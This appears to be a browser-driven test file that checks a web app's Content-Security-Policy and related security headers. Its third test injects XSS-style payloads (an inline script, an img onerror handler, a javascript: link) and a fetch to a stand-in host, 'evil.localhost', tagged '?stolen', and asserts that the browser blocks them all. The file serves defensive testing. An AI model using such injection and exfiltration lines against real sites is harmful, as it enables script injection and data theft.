import assert from 'node:assert/strict';
import { test } from 'node:test';

import { enter, world } from '../support/world.js';

const here = world();
const { visitor } = here;

/** Visits every page and submits every form. The visitor checks the console and the targets of requests. */
test('no page breaks its own policy, or asks another origin for anything', async (t) => {
  const root = await visitor(t);
  root.expects(/status of 40[134]/);
  const requests = [];
  root.context.on('request', (request) => requests.push(request.url()));
  const page = await root.open('/login');
  await enter(page, 'root', 'wrong');
  await page.waitForSelector('[role=alert]');
  await enter(page, 'root', 'enough rope');
  await page.waitForURL('**/dashboard');
  await page.waitForTimeout(1_500);
  for (const path of ['/', '/admin', '/what-happened', '/playground', '/dashboard', '/no-such-page', '/login']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
  }
  const token = (await root.cookie('__Host-session')).value;
  await page.goto('/playground');
  await page.fill('textarea#token', token);
  await page.click('form#playground button');
  await page.waitForSelector('#verdict');
  await page.goto('/dashboard');
  await page.click('form#logout button');
  await page.waitForSelector('form#login');
  const ferris = await visitor(t);
  ferris.expects(/status of 403/);
  await ferris.logIn('ferris');
  await (await ferris.open('/admin')).waitForSelector('#forbidden');
  assert.ok(requests.length > 10);
  assert.deepEqual(root.strays, []);
  assert.deepEqual(root.console.filter((text) => /content.security|refused|violat/i.test(text)), []);
});

test('every response says what a browser is to be strict about', async (t) => {
  const ferris = await visitor(t);
  const page = await ferris.logIn('ferris');
  const seen = new Map();
  ferris.context.on('response', (response) => seen.set(new URL(response.url()).pathname, response));
  ferris.expects(/status of 40[34]/);
  for (const path of ['/dashboard', '/admin', '/what-happened', '/playground', '/login', '/no-such-page']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
  }
  await page.evaluate(() => fetch('/session.json').then((response) => response.text()));
  for (const [path, response] of seen) {
    const headers = await response.allHeaders();
    const policy = headers['content-security-policy'] ?? '';
    assert.equal(headers['x-content-type-options'], 'nosniff', path);
    assert.ok(headers['content-type'] || response.status() === 204 || response.status() >= 300, path);
    if (!(headers['content-type'] ?? '').includes('text/html')) continue;
    assert.match(policy, /default-src 'none'|default-src 'self'/, path);
    assert.match(policy, /frame-ancestors 'none'/, path);
    assert.match(policy, /form-action 'self'/, path);
    assert.match(policy, /base-uri '(none|self)'/, path);
    assert.doesNotMatch(policy, /unsafe-|\*|https?:/, path);
    assert.match(headers['referrer-policy'] ?? '', /no-referrer|same-origin/, path);
  }
  for (const path of ['/dashboard', '/admin', '/session.json']) {
    assert.match((await seen.get(path).allHeaders())['cache-control'] ?? '', /no-store/, path);
  }
});

test('a script that somebody gets into a page does not run', async (t) => {
  const ferris = await visitor(t);
  const page = await ferris.logIn('ferris');
  ferris.expects(/content security policy/i);
  ferris.mayLeave();
  const reached = [];
  page.on('response', (response) => { if (!response.url().startsWith(here.server.origin)) reached.push(response.url()); });
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "a script of the page"';
    document.body.append(script);
    const image = document.body.appendChild(document.createElement('div'));
    image.innerHTML = '<img src="/no-such-image" onerror="window.ran = \'an attribute\'">';
    const link = document.body.appendChild(document.createElement('a'));
    link.href = 'javascript:void(window.ran = "an address")';
    link.click();
    const sent = await fetch('http://evil.localhost:9/?stolen', { mode: 'no-cors' }).then(() => 'sent', () => 'refused');
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [window.ran, sent];
  });
  assert.deepEqual(ran, [undefined, 'refused']);
  assert.deepEqual(reached, []);
  assert.ok(ferris.console.some((text) => /content security policy/i.test(text)), 'the browser says so');
  ferris.expects(/status of 404/);
});
